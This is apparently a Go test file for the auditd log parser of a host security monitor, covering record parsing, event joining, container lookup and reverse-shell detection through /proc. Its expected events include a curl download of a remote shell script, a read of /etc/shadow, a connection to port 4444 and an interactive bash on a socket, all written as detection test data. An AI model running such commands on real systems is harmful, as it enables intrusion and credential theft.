package auditd

import (
	"bufio"
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkdev/bulwark/internal/event"
	"github.com/bulwarkdev/bulwark/internal/source/sourcetest"
)

func feed(t testing.TB, s *Stream, data []byte) {
	t.Helper()
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(nil, MaxLine*2)
	n := int64(0)
	for sc.Scan() {
		n++
		s.Line(sc.Bytes(), n)
	}
	s.Idle()
}

// TestStreamGolden joins the synthetic log: exec with hex and split
// arguments, interleaved open and connect events, IPv6 on arm64, a
// rename, filtered and malformed records, and real records of an
// unshare(2) creating namespaces and of a fork's clone(2), which creates
// none (filtered).
func TestStreamGolden(t *testing.T) {
	data, err := os.ReadFile("testdata/audit.log")
	if err != nil {
		t.Fatal(err)
	}
	var evs []*event.Event
	s := NewStream(BuildOptions{Host: "node-1"}, func(e *event.Event) { evs = append(evs, e) }, nil)
	feed(t, s, data)
	out := sourcetest.Render(t, evs...)
	st := s.Stats()
	out = append(out, fmt.Sprintf("stats: %+v\n", st)...)
	sourcetest.Golden(t, "testdata/golden/audit.log.golden", out)
	if st.Events != 8 || st.Malformed != 2 || st.Filtered != 4 {
		t.Errorf("stats %+v, want 8 events, 2 malformed, 4 filtered", st)
	}
	want := []struct {
		kind   event.Kind
		action string
		check  string
	}{
		{event.KindProcessExec, "execve", "curl -sO http://203.0.113.9/x.sh out file"},
		{event.KindProcessExec, "execve", "sh echo bulwark-split-arg x"},
		{event.KindFile, "open-read", "/etc/shadow"},
		{event.KindNetConnect, "connect", "198.51.100.7:4444"},
		{event.KindNetConnect, "connect", "2001:db8::1:443"},
		{event.KindFile, "rename", "/etc/passwd+"},
		{event.KindNamespace, "unshare", "unshare -U -n /bin/true [user net]"},
		{event.KindFile, "open-write", "/home/alice/my dir/.bash_history"},
	}
	for i, w := range want {
		if i >= len(evs) {
			break
		}
		e := evs[i]
		var got string
		switch e.Kind {
		case event.KindProcessExec:
			got = e.Process.Cmdline
		case event.KindFile:
			got = e.File.Path
		case event.KindNetConnect:
			got = fmt.Sprintf("%s:%d", e.Net.DstIP, e.Net.DstPort)
		case event.KindNamespace:
			got = fmt.Sprintf("%s %v", e.Process.Cmdline, e.Process.Namespaces)
		}
		if e.Kind != w.kind || e.Action != w.action || got != w.check {
			t.Errorf("event %d: %s %s %q, want %s %s %q", i, e.Kind, e.Action, got, w.kind, w.action, w.check)
		}
	}
}

func TestParseRecord(t *testing.T) {
	tests := []struct {
		line    string
		typ     string
		serial  uint64
		fields  string // key=value|… of the parsed fields
		wantErr bool
	}{
		{`type=CWD msg=audit(1.5:7): cwd="/a b"`, "CWD", 7, `cwd="/a b"`, false},
		{`node=n1 type=EOE msg=audit(1700000000.123:456): `, "EOE", 456, ``, false},
		{"type=SOCKADDR msg=audit(1.0:2): saddr=0100\x1dSADDR={ saddr_fam=local path=/x }", "SOCKADDR", 2, `saddr=0100|SADDR={ saddr_fam=local path=/x }`, false},
		{`type=USER_CMD msg=audit(1.0:3): pid=1 msg='cwd="/" cmd=6C73 res=success'`, "USER_CMD", 3, `pid=1|cwd="/"|cmd=6C73|res=success`, false},
		{`type=AVC msg=audit(1.0:4): avc:  denied  { read } for pid=5`, "AVC", 4, `pid=5`, false},
		{`type=X msg=audit(1.0:5): a="unterminated`, "X", 5, `a="unterminated`, false},
		{`garbage`, "", 0, "", true},
		{`type=X`, "", 0, "", true},
		{`type=X msg=audit(1.0): a=1`, "", 0, "", true},
		{`type=X msg=audit(1.0:x): a=1`, "", 0, "", true},
		{`type=X msg=audit(-1.0:1): a=1`, "", 0, "", true},
		{`type=X msg=audit(1.0:1`, "", 0, "", true},
		{`type= msg=audit(1.0:1): `, "", 0, "", true},
		{`type=X msg=audit(1.` + strings.Repeat("0", 20) + `:1): `, "", 0, "", true},
	}
	for _, tc := range tests {
		t.Run(tc.line, func(t *testing.T) {
			r, err := ParseRecord([]byte(tc.line))
			if (err != nil) != tc.wantErr {
				t.Fatalf("err = %v, want error %v", err, tc.wantErr)
			}
			if err != nil {
				return
			}
			var fs []string
			for _, f := range r.Fields {
				fs = append(fs, f.Key+"="+f.Value)
			}
			if r.Type != tc.typ || r.Serial != tc.serial || strings.Join(fs, "|") != tc.fields {
				t.Errorf("got %s %d %q, want %s %d %q", r.Type, r.Serial, strings.Join(fs, "|"), tc.typ, tc.serial, tc.fields)
			}
		})
	}
}

func TestContainerID(t *testing.T) {
	id := strings.Repeat("ab12", 16)
	tests := map[string]string{
		"0::/system.slice/docker-" + id + ".scope":                               id,
		"12:pids:/docker/" + id + "\n0::/":                                       id,
		"0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-" + id + ".scope": id,
		"0::/kubepods/besteffort/pod5/crio-" + id + ".scope":                     id,
		"0::/user.slice/user-1000.slice/session-3.scope":                         "",
		"0::/docker/" + id[:63]:                                                  "",
		"0::/system.slice/docker-" + strings.ToUpper(id) + ".scope":              "",
	}
	for cg, want := range tests {
		if got := ContainerID(cg); got != want {
			t.Errorf("ContainerID(%q) = %q, want %q", cg, got, want)
		}
	}
}

// TestJoinerEviction: groups without PROCTITLE or EOE complete when too
// many newer ones are open, oldest first, and late records are ignored.
func TestJoinerEviction(t *testing.T) {
	var done []uint64
	j := Joiner{MaxOpen: 2, Done: func(r []*Record) { done = append(done, r[0].Serial) }}
	for s := uint64(1); s <= 4; s++ {
		j.Add(&Record{Type: "SYSCALL", Serial: s}, int64(s*100))
	}
	if fmt.Sprint(done) != "[1 2]" || j.HeldFrom() != 300 {
		t.Fatalf("done %v held from %d, want [1 2] and 300", done, j.HeldFrom())
	}
	j.Add(&Record{Type: "EOE", Serial: 1}, 500) // late: ignored
	j.Add(&Record{Type: "PROCTITLE", Serial: 4}, 600)
	j.Flush()
	if fmt.Sprint(done) != "[1 2 4 3]" || j.HeldFrom() != -1 {
		t.Fatalf("done %v, want [1 2 4 3]", done)
	}
}

func FuzzParseRecord(f *testing.F) {
	data, _ := os.ReadFile("testdata/audit.log")
	for _, l := range strings.Split(string(data), "\n")[:12] {
		f.Add([]byte(l))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		r, err := ParseRecord(b)
		if err == nil && r.Type == "" {
			t.Fatal("record without type accepted")
		}
	})
}

// FuzzStream feeds arbitrary multi-line input through parse, join and
// build: nothing panics, and every emitted event has a kind and process.
func FuzzStream(f *testing.F) {
	data, _ := os.ReadFile("testdata/audit.log")
	f.Add(data)
	f.Add([]byte("type=SYSCALL msg=audit(1.0:1): arch=c000003e syscall=42 success=yes\ntype=SOCKADDR msg=audit(1.0:1): saddr=0A00\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		s := NewStream(BuildOptions{}, func(e *event.Event) {
			if e.Kind == "" || e.Process == nil {
				t.Fatalf("event without kind or process: %+v", e)
			}
		}, nil)
		feed(t, s, b)
	})
}

// TestEnrich looks up the container and parent of a live process under a
// /proc-shaped directory.
func TestEnrich(t *testing.T) {
	root := t.TempDir()
	id := strings.Repeat("0123456789abcdef", 4)
	write := func(rel, s string) {
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("42/cgroup", "0::/system.slice/docker-"+id+".scope\n")
	write("7/comm", "containerd-shim\n")
	write("7/cmdline", "containerd-shim\x00-id\x00x\x00")
	recs := []*Record{
		{Type: "SYSCALL", Serial: 1, Fields: []Field{{"arch", "c000003e"}, {"syscall", "59"}, {"success", "yes"}, {"pid", "42"}, {"ppid", "7"}, {"uid", "0"}, {"euid", "0"}, {"exe", `"/bin/sh"`}}},
		{Type: "EXECVE", Serial: 1, Fields: []Field{{"argc", "1"}, {"a0", `"sh"`}}},
	}
	e, err := Build(recs, BuildOptions{ProcRoot: root})
	if err != nil {
		t.Fatal(err)
	}
	if e.Container == nil || e.Container.ID != id || e.Process.CgroupPath != "/system.slice/docker-"+id+".scope" ||
		e.Process.ParentName != "containerd-shim" || e.Process.ParentCmdline != "containerd-shim -id x" {
		t.Errorf("enriched %+v %+v", e.Container, e.Process)
	}
	e, _ = Build(recs, BuildOptions{})
	if e.Container != nil || e.Process.ParentName != "" {
		t.Errorf("recorded input must not be enriched from this host: %+v", e.Process)
	}
}

// TestEnrichLive covers what a live tailer meets: a short-lived process
// already gone (its parent's cgroup stands in), and a shell whose
// standard streams are a TCP socket (a reverse shell: the audit records
// cannot say so, /proc can).
func TestEnrichLive(t *testing.T) {
	id := strings.Repeat("fedcba9876543210", 4)
	tcp := "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n" +
		"   0: 0100007F:A2B4 0100007F:1F90 01 00000000:00000000 00:00000000 00000000     0        0 999 1 0 20 4 30 10 -1\n"
	tests := []struct {
		name      string
		files     map[string]string // under the fake /proc
		fd0       string            // link target of 42/fd/0, if any
		container string
		stdio     bool
		peer      string
	}{
		{name: "process gone, parent in the container",
			files: map[string]string{"7/cgroup": "0::/system.slice/docker-" + id + ".scope\n"}, container: id},
		{name: "process and parent gone", files: map[string]string{"9/cgroup": "0::/x\n"}},
		{name: "shell on a socket",
			files: map[string]string{"42/cgroup": "0::/user.slice\n", "42/net/tcp": tcp}, fd0: "socket:[999]",
			stdio: true, peer: "127.0.0.1:8080"},
		{name: "shell on a pipe", files: map[string]string{"42/cgroup": "0::/user.slice\n"}, fd0: "pipe:[5]"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			for rel, s := range tc.files {
				p := filepath.Join(root, rel)
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if tc.fd0 != "" {
				if err := os.MkdirAll(filepath.Join(root, "42/fd"), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(tc.fd0, filepath.Join(root, "42/fd/0")); err != nil {
					t.Fatal(err)
				}
			}
			recs := []*Record{
				{Type: "SYSCALL", Serial: 1, Fields: []Field{{"arch", "c000003e"}, {"syscall", "59"}, {"success", "yes"}, {"pid", "42"}, {"ppid", "7"}, {"uid", "0"}, {"euid", "0"}, {"exe", `"/bin/bash"`}}},
				{Type: "EXECVE", Serial: 1, Fields: []Field{{"argc", "2"}, {"a0", `"bash"`}, {"a1", `"-i"`}}},
			}
			e, err := Build(recs, BuildOptions{ProcRoot: root})
			if err != nil {
				t.Fatal(err)
			}
			var got string
			if e.Container != nil {
				got = e.Container.ID
			}
			if got != tc.container || e.Process.StdioSocket != tc.stdio || e.Process.StdioPeer != tc.peer {
				t.Errorf("container %q stdio %v peer %q; want %q %v %q", got, e.Process.StdioSocket, e.Process.StdioPeer, tc.container, tc.stdio, tc.peer)
			}
		})
	}
}

// TestStreamSettle: a live stream that catches up between two records of
// one event waits for the rest (up to settle) instead of completing it
// without them.
func TestStreamSettle(t *testing.T) {
	const (
		syscall   = `type=SYSCALL msg=audit(1795779078.060:2244): arch=c000003e syscall=272 success=yes exit=0 a0=50000000 a1=0 a2=0 a3=8 items=0 ppid=9930 pid=9938 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="unshare" exe="/usr/bin/unshare" key="ns"`
		proctitle = `type=PROCTITLE msg=audit(1795779078.060:2244): proctitle=756E7368617265002D55002D6E002F62696E2F74727565`
	)
	var evs []*event.Event
	s := NewStream(BuildOptions{Host: "n"}, func(e *event.Event) { evs = append(evs, e) }, nil)
	now := time.Unix(1000, 0)
	s.settle, s.now = 200*time.Millisecond, func() time.Time { return now }

	s.Line([]byte(syscall), 0)
	s.Idle() // caught up between the two records: held
	if len(evs) != 0 {
		t.Fatalf("event completed before its PROCTITLE: %+v", evs[0].Process)
	}
	if s.HeldFrom() != 0 {
		t.Errorf("held from %d, want 0 (re-read after a restart)", s.HeldFrom())
	}
	now = now.Add(50 * time.Millisecond)
	s.Line([]byte(proctitle), 1)
	if len(evs) != 1 || evs[0].Process.Cmdline != "unshare -U -n /bin/true" {
		t.Fatalf("events %d, want the unshare with its command line", len(evs))
	}

	// A record that never gets its PROCTITLE is completed once settled.
	s.Line([]byte(strings.ReplaceAll(syscall, ":2244)", ":2245)")), 2)
	now = now.Add(100 * time.Millisecond)
	s.Idle()
	if len(evs) != 1 {
		t.Fatalf("completed before settling")
	}
	now = now.Add(150 * time.Millisecond)
	s.Idle()
	if len(evs) != 2 || evs[1].Kind != event.KindNamespace || evs[1].Process.Cmdline != "" {
		t.Fatalf("events %d, want the second unshare completed without a command line", len(evs))
	}
}
